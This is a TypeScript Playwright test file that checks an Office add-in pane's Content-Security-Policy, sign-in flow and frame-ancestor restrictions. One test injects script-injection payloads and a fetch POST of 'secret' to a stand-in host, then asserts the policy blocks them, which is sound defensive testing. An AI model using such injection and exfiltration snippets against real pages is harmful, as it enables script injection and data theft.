import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, extname, join } from 'node:path';
import type { Browser, Page, Route } from 'playwright-core';
import { launchBrowser } from '#given/browser.ts';
import { givenFolder } from '#given/folder.ts';
import { until } from '#given/process.ts';
import { someSettings } from '#given/settings.ts';
import { contentPolicy } from '#infra/aws/content-policy.ts';
import { paneFiles } from '#infra/aws/pane-files.ts';
import { settingsFrom } from '#infra/aws/settings.ts';

const settings = settingsFrom(someSettings);
const house = 'https://sales.department.example';
const scans = 'https://scans.department.example';
const elsewhere = 'https://elsewhere.example';
const officeJs = dirname(createRequire(import.meta.url).resolve('@microsoft/office-js/dist/office.js'));
const types: Readonly<Record<string, string>> = { '.html': 'text/html', '.js': 'text/javascript', '.png': 'image/png' };
const policed = { 'content-security-policy': contentPolicy({ signInHost: settings.signInHost, scans }) };

let browser: Browser;
let files: string;
let asked: string[];

/** Entra ID, which knows nobody yet and says so to the page in the frame that asks it unseen. */
function entra(route: Route, { origin, pathname, searchParams }: URL): Promise<void> {
  const said = new URLSearchParams({ error: 'login_required', state: searchParams.get('state') ?? '' });
  const back = `${searchParams.get('redirect_uri') ?? ''}#${said.toString()}`;
  if (pathname.endsWith('/authorize'))
    return route.fulfill({
      contentType: 'text/html',
      body: `<script>location.replace(${JSON.stringify(back)})</script>`,
    });
  const at = `${origin}/${settings.tenantId}`;
  const json = {
    issuer: `${at}/v2.0`,
    authorization_endpoint: `${at}/oauth2/v2.0/authorize`,
    token_endpoint: `${at}/oauth2/v2.0/token`,
    jwks_uri: `${at}/discovery/v2.0/keys`,
  };
  return route.fulfill({ json, headers: { 'access-control-allow-origin': '*' } });
}

/** The internet of this test: the house, Microsoft, and everybody else, who answer anything to anybody. */
async function answer(route: Route): Promise<void> {
  const address = new URL(route.request().url());
  const { origin, pathname, href, hostname } = address;
  asked.push(href);
  if (hostname === settings.signInHost) return entra(route, address);
  const contentType = types[extname(pathname)] ?? 'application/json';
  if (origin === house && !/^\/(pane|assets)\//.test(pathname)) return route.fulfill({ status: 401, headers: policed });
  if (origin === house)
    return route.fulfill({ body: readFileSync(join(files, pathname)), contentType, headers: policed });
  if (origin === 'https://appsforoffice.microsoft.com')
    return route.fulfill({ path: join(officeJs, pathname.replace('/lib/1/hosted/', '')), contentType });
  return route.fulfill({
    status: 200,
    headers: { 'access-control-allow-origin': '*' },
    contentType: 'text/html',
    body: `<iframe src="${house}/pane/index.html"></iframe>`,
  });
}

interface Violation {
  readonly rule: string;
  readonly what: string;
}
declare const violations: Violation[];

async function open(address: string): Promise<Page> {
  asked = [];
  const page = await browser.newPage();
  await page.addInitScript(() => {
    const seen: Violation[] = [];
    Object.assign(globalThis, { violations: seen });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      seen.push({ rule: effectiveDirective, what: blockedURI }),
    );
  });
  await page.route('**/*', answer);
  await page.goto(address);
  return page;
}
const seenBy = (page: Page) => page.evaluate(() => violations);

beforeAll(async () => {
  files = givenFolder();
  [browser] = await Promise.all([launchBrowser(), paneFiles(files, settings)]);
}, 60_000);
afterAll(() => browser.close());

test('the pane of a department opens under its policy and asks to sign in; only what office.js would report of itself is refused', async () => {
  const page = await open(`${house}/pane/index.html`);
  await page.getByRole('button').first().waitFor();
  const reports = 'https://telemetryservice.firstpartyapps.oaspapps.com';
  expect((await seenBy(page)).filter(({ what }) => what !== reports)).toEqual([]);
  expect(asked.filter((address) => address.startsWith(reports))).toEqual([]);
  expect(asked).toContainEqual(expect.stringMatching(/^https:\/\/login\.microsoftonline\.com\/.*\/authorize\?/));
  expect(asked).toContain(`${house}/pane/sign-in.html`);
  expect(asked).toContain('https://appsforoffice.microsoft.com/lib/1/hosted/office.js');
  expect(asked).toContain(`${house}/pane/settings.json`);
  await page.close();
});

test('what somebody might bring into the page neither runs nor leaves it', async () => {
  const page = await open(`${house}/pane/index.html`);
  await page.getByRole('button').first().waitFor();
  asked = [];
  await page.evaluate(async (there) => {
    const put = (html: string): void => document.body.insertAdjacentHTML('beforeend', html);
    const script = (with_: Partial<HTMLScriptElement>): void =>
      document.body.append(Object.assign(document.createElement('script'), with_));
    script({ text: 'globalThis.ran = true' });
    script({ src: `${there}/x.js` });
    put('<img src="data:," onerror="globalThis.ran = true">');
    put(`<img src="${there}/x.png?secret"><iframe src="${there}/"></iframe><base href="${there}">`);
    const form = Object.assign(document.createElement('form'), { action: `${there}/form` });
    document.body.append(form);
    form.submit();
    await fetch(`${there}/x?secret`, { method: 'POST', body: 'secret' }).catch(() => undefined);
    await new Promise((done) => setTimeout(done, 100));
  }, elsewhere);
  expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  expect(asked.filter((address) => address.startsWith(elsewhere))).toEqual([]);
  const rules = new Set((await seenBy(page)).map(({ rule }) => rule));
  expect([...rules].sort()).toEqual([
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'script-src-attr',
    'script-src-elem',
  ]);
  await page.close();
});

const hasBegun = () => asked.includes(`${house}/pane/settings.json`);

test('the pane begins where Excel on the web shows it', async () => {
  const page = await open('https://department.sharepoint.com/');
  await until('the pane asks for its settings', hasBegun);
  await page.close();
});

test('shown by a page of anybody else, the pane does not even begin', async () => {
  const page = await open(`${elsewhere}/`);
  // What is refused ends at a page of the browser's own.
  await page
    .frames()
    .at(1)
    ?.waitForURL(/^chrome-error:/);
  expect(hasBegun()).toBe(false);
  await page.close();
});
